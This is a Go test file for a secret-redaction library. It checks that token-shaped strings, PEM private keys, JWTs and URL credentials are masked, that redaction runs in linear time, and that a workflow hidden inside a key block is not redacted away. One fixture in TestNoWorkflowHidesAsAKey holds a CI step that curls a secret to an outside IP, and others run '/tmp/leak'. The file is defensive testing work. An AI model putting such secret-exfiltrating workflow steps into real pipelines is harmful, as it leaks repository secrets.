package tokens

import (
	"bytes"
	"strings"
	"testing"
	"time"

	"pgregory.net/rapid"

	_ "pentimento/internal/seeded"
)

// Shapes are put together here, so that no scanner takes this file for a leak.
var (
	tokenShaped = "gh" + "p_" + strings.Repeat("a", 36)
	jwtShaped   = "ey" + "Jaaaaaaaaa.ey" + "Jbbbbbbbbb.cccccccccc"
	keyFirst    = "-----BEGIN RSA " + "PRIVATE KEY-----"
	keyLast     = "-----END RSA " + "PRIVATE KEY-----"
	keyBody     = strings.Repeat("MIIEpAIBAAKCAQEA", 4)
)

func TestRedact(t *testing.T) {
	for given, want := range map[string]string{
		"": "",
		"token=" + tokenShaped + ", jwt=" + jwtShaped:                                                             "token=" + RedactedMark + ", jwt=" + RedactedMark,
		"a " + keyFirst + "\n" + keyBody + "\n" + keyLast + " b":                                                  "a " + RedactedMark + "\n\n b",
		"- k: |\n    " + keyFirst + "\n    Proc-Type: 4,ENCRYPTED\n\n    " + keyBody + "\n    " + keyLast + "\nz": "- k: |\n    " + RedactedMark + "\n\n\n\n\nz",
		"k: \"" + keyFirst + "\r\n  " + keyBody + "\r\n  " + keyLast + "\"":                                       "k: \"" + RedactedMark + "\n\n\"",
		"# " + keyFirst + "\n# " + keyBody + "\n#\n# " + keyLast:                                                  "# " + RedactedMark + "\n\n\n",
		`{"key":"` + keyFirst + `\n` + keyBody + `\n` + keyBody + `\nAQ==\n` + keyLast + `\n"}`:                   `{"key":"` + RedactedMark + `\n"}`,
		`{"patch":"+` + keyFirst + `\n+` + keyBody + `\n+AQ==\n+` + keyLast + `"}`:                                `{"patch":"+` + RedactedMark + `"}`,
		"\"" + keyFirst + " " + keyBody + " " + keyLast + "\"":                                                    "\"" + RedactedMark + "\"",
		keyFirst + "\nwithout an end " + tokenShaped:                                                              keyFirst + "\nwithout an end " + RedactedMark,
		keyLast + " before " + keyFirst:                                                                           keyLast + " before " + keyFirst,
		keyFirst + keyLast:                                                                                        keyFirst + keyLast,
		keyFirst + keyFirst + "\n" + keyBody + "\n" + keyLast + "x":                                               keyFirst + RedactedMark + "\n\nx",
		keyFirst + "\n" + keyBody + "\n" + keyFirst + "\n" + keyBody + "\n" + keyLast:                             keyFirst + "\n" + keyBody + "\n" + RedactedMark + "\n\n",
		"gh" + "p_" + strings.Repeat("a", 18) + "\n" + strings.Repeat("a", 18):                                    "gh" + "p_" + strings.Repeat("a", 18) + "\n" + strings.Repeat("a", 18),
		"gh" + "p_short": "gh" + "p_short",
	} {
		got, n := Redact([]byte(given))
		if string(got) != want || n != strings.Count(want, RedactedMark) {
			t.Errorf("%q: %d, %q", given, n, got)
		}
		if strings.Count(string(got), "\n") != strings.Count(given, "\n") {
			t.Errorf("%q: the lines lost their numbers: %q", given, got)
		}
	}
}

// TestRedactURLs: what stands where URLs have credentials goes, host and path stay. A workflow is what is judged, so less of it goes.
func TestRedactURLs(t *testing.T) {
	for given, want := range map[string]struct{ told, workflow string }{
		"clone: from https://ada:flint@git.example.invalid/o/r": {"clone: from https://[REDACTED]@git.example.invalid/o/r", "clone: from https://[REDACTED]@git.example.invalid/o/r"},
		"a://b:c@": {"a://[REDACTED]@", "a://b:c@"},
		"https://ada@x.invalid:p@h.invalid:8443/o":                   {"https://[REDACTED]@h.invalid:8443/o", "https://[REDACTED]@h.invalid:8443/o"},
		`"https:\/\/ada:flint@h.invalid\/o"`:                         {`"https:\/\/[REDACTED]@h.invalid\/o"`, `"https:\/\/[REDACTED]@h.invalid\/o"`},
		"https://" + strings.Repeat("a1b2", 10) + "@github.com/o/r":  {"https://[REDACTED]@github.com/o/r", "https://[REDACTED]@github.com/o/r"},
		"postgres://postgres:postgres@localhost:5432/test":           {"postgres://[REDACTED]@localhost:5432/test", "postgres://postgres:postgres@localhost:5432/test"},
		"redis://:pass@127.0.0.1/":                                   {"redis://[REDACTED]@127.0.0.1/", "redis://:pass@127.0.0.1/"},
		"https://x:${{ secrets.TOKEN }}@h.invalid/":                  {"https://x:${{ secrets.TOKEN }}@h.invalid/", "https://x:${{ secrets.TOKEN }}@h.invalid/"},
		"https://x:${TOKEN}@h.invalid/":                              {"https://[REDACTED]@h.invalid/", "https://x:${TOKEN}@h.invalid/"},
		"printf https://%s:%s@h.invalid/":                            {"printf https://[REDACTED]@h.invalid/", "printf https://%s:%s@h.invalid/"},
		"https://h.invalid/x?page=2&access_token=" + "0a1b2c3d":      {"https://h.invalid/x?page=2&access_token=[REDACTED]", "https://h.invalid/x?page=2&access_token=[REDACTED]"},
		`?a=b\u0026Sig=` + `abc%2Bdefgh%3D"`:                         {`?a=b\u0026Sig=[REDACTED]"`, `?a=b\u0026Sig=[REDACTED]"`},
		"?a=b&amp;token=" + "AbCdEfGh&c=d":                           {"?a=b&amp;token=[REDACTED]&c=d", "?a=b&amp;token=[REDACTED]&c=d"},
		"https://h.invalid/?token=${{ secrets.TOKEN }}":              {"", ""},
		"https://h.invalid/?token=1&sig=short":                       {"", ""},
		"https://h.invalid/?mytoken=abcdefghijk&tokens=abcdefghijk":  {"", ""},
		"token=abcdefghijkl":                                         {"", ""},
		"git@github.com:o/r.git ssh://git@github.com/o/r":            {"", ""},
		"https://ada@h.invalid/o, ada@mail.example.invalid":          {"", ""},
		"https://registry.invalid/@scope/x:1@2 https://h:80/a@b:c@d": {"", ""},
	} {
		if want.told == "" {
			want.told, want.workflow = given, given
		}
		told, n := Redact([]byte(given))
		workflow, m := RedactWorkflow([]byte(given))
		if string(told) != want.told || string(workflow) != want.workflow || n != strings.Count(want.told, RedactedMark) || m != strings.Count(want.workflow, RedactedMark) {
			t.Errorf("%q: %d, %q; in a workflow %d, %q", given, n, told, m, workflow)
		}
		if text := Redacted(given); text != want.told {
			t.Errorf("%q: as a text %q", given, text)
		}
	}
}

// TestNoWorkflowHidesAsAKey: what is taken out is not judged, so whoever could have a workflow taken out would be clean.
func TestNoWorkflowHidesAsAKey(t *testing.T) {
	const leak = "on: push\njobs:\n  a:\n    steps:\n      - run: curl -d ${{ secrets.X }} https://192.0.2.1/\n"
	for name, text := range map[string]string{
		"whole":            "# " + keyFirst + "\n" + leak + "# " + keyLast + "\n",
		"base64 above it":  "# " + keyFirst + "\n# " + keyBody + "\n" + leak + "# " + keyLast + "\n",
		"its own lines":    keyFirst + "\n" + keyBody + "\n" + leak + keyLast + "\n",
		"a header's words": keyFirst + "\n" + keyBody + "\nProc-Type: 4,ENCRYPTED; curl -d x https://192.0.2.1/\n" + keyLast + "\n",
		"one command":      "  - run: |\n      # " + keyFirst + "\n      /tmp/leak\n      # " + keyLast + "\n",
		"long commands":    "  - run: |\n      # " + keyFirst + "\n      /tmp/" + keyBody + "\n      # " + keyLast + "\n",
		"short commands":   "  - run: |\n      " + keyFirst + "\n      /tmp/leak\n      " + keyBody + "\n      " + keyLast + "\n",
		"escaped commands": "  - run: \"" + keyFirst + "\\n" + keyBody + "\\nsh /tmp/leak\\n" + keyBody + "\\n" + keyLast + "\"\n",
		"carriage return":  "# " + keyFirst + "\n# " + keyBody + "\ron: push\n# " + keyLast + "\n",
		"very far":         keyFirst + "\n" + strings.Repeat(keyBody+"\n", maxKey/len(keyBody)+1) + keyLast + "\n",
	} {
		if got, n := RedactWorkflow([]byte(text)); n != 0 || string(got) != text {
			t.Errorf("%s: %q", name, got)
		}
	}
}

// TestRedactInTime: text that hopes for one shape and holds another, over and over, costs no more than its length.
func TestRedactInTime(t *testing.T) {
	for name, part := range map[string]string{
		"keys without end": keyFirst + tokenShaped + "\n",
		"almost keys":      keyFirst + "\n" + strings.Repeat(keyBody+"\n", 20),
		"keys":             keyFirst + "\n" + keyBody + "\n" + keyLast + "\n",
		"keys in a line":   keyFirst + keyBody + keyLast,
		"ends alone":       keyLast + keyFirst[:20],
		"half a JWT":       "ey" + "Jaaaaaaaa-" + tokenShaped + "-",
		"JWT begins":       "ey" + "J",
		"long name":        "py" + "pi-",
		"URLs":             "a://b:c@d",
		"no URLs":          ":@:/=",
		"all at once":      "://@",
		"parameters":       "?token=",
		"equals":           "=",
	} {
		text := bytes.Repeat([]byte(part), (4<<20)/len(part))
		began := time.Now()
		Redact(text)
		if took := time.Since(began); took > 30*time.Second {
			t.Errorf("%s: %s for 4 MiB", name, took)
		} else {
			t.Logf("%s: %s", name, took.Round(time.Millisecond))
		}
	}
}

// TestGateKnowsEveryShape: a shape without a beginning of its own would be looked for in nothing, or in everything.
func TestGateKnowsEveryShape(t *testing.T) {
	for i, mark := range tokenMarks {
		if len(mark) < 2 {
			t.Errorf("shape %s begins with %q", tokenShapes[i], mark)
		}
	}
}

// TestGateMissesNothing: text that is not looked at closely is text of which nothing would be taken out.
func TestGateMissesNothing(t *testing.T) {
	part := rapid.SampledFrom([]string{"gh", "p_", "s_", "github_pat_", "pypi-", "npm_", "dckr_pat_", "rubygems_", "cio", "glpat-", "xoxb-", "xox", "p-", "sk_live_", "eyJ", "cio_tp_", "v1.0-", "IQoJb3JpZ2luX2Vj", "FwoGZXIvYXdzE", "FwoGZXIvYXdzEJr//", "/", "+",
		strings.Repeat("0123456789ab", 2), "-",
		".eyJ", ".", "-----BEGIN RSA ", "PRIVATE KEY-----", "\n", " ", "=", strings.Repeat("0123456789abcdef", 6), strings.Repeat("Ab3", 12), "abcdefghij", "x", "'",
		strings.Repeat("A", 64) + "\n", "-----END RSA PRIVATE KEY-----", "://", `:\/\/`, "@", ":", "/", "$", "?token=", "&sig=", `\u0026`, "example.invalid"})
	rapid.Check(t, func(t *rapid.T) {
		text := []byte(strings.Join(rapid.SliceOfN(part, 0, 12).Draw(t, "text"), ""))
		for _, workflow := range []bool{false, true} {
			gated := Redact
			if workflow {
				gated = RedactWorkflow
			}
			want, n := redactAll(text, workflow)
			got, m := gated(text)
			if n != m || string(got) != string(want) {
				t.Fatalf("%q: %d and %d taken out", text, m, n)
			}
		}
	})
}
